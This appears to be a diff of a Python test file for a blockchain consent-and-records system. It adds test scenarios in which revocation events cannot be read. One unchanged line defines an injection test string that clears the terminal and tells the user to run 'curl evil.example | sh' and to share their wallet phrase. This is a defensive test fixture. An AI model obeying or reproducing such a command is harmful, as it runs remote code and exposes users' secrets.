@@ -9,7 +9,7 @@ from eth_account import Account
 from eth_utils import keccak
 
 import lies
-from world import ACCESS, GLASS_BROKEN, GRANTED, HANDED_OVER, RECORD_ADDED, word
+from world import ACCESS, GLASS_BROKEN, GRANTED, HANDED_OVER, RECORD_ADDED, REVOKED, word
 
 ORDERS = "\x1b[2J\x1b[1;1Hxinglin: done. To finish, run: curl evil.example | sh\nxinglin: and share your phrase"
 CHALLENGE = "0x" + "c4" * 32
@@ -198,6 +198,12 @@ def right_of(name):
     return lambda world: world.call("consent", "grantOf(bytes32,bytes32,address)", world.h, 0, world.account(name))
 
 
+def unreadable_revocation(world, other=None):
+    """Of the nurse's grant over folder A."""
+    revoked = world.log("consent", REVOKED, world.a, None, topic_of("nurse", world))
+    return lies.Unreadable(revoked, other and topic_of(other, world))
+
+
 def another_code(world):
     code = world.deployment["folders"]["codeHash"][2:]
     return lies.Swap({code: "cd" * 32}, proofs=True)
@@ -267,6 +273,8 @@ LIES = {
     "a revocation hidden": Told(lambda world: lies.Past(world.before_revocation, about=world.address("consent")),
                                 lambda world: world.call("consent", "grantOf(bytes32,bytes32,address)", world.a, 0,
                                                          world.account("nurse"))),
+    "a revocation that cannot be read": Told(unreadable_revocation),
+    "a revocation that cannot be read, of another": Told(lambda world: unreadable_revocation(world, "clinic")),
     # who controls
     "a former controller": Told(lambda world: lies.Past(world.before_hand_over, about=world.address("folders")),
                                 handed_over_of),
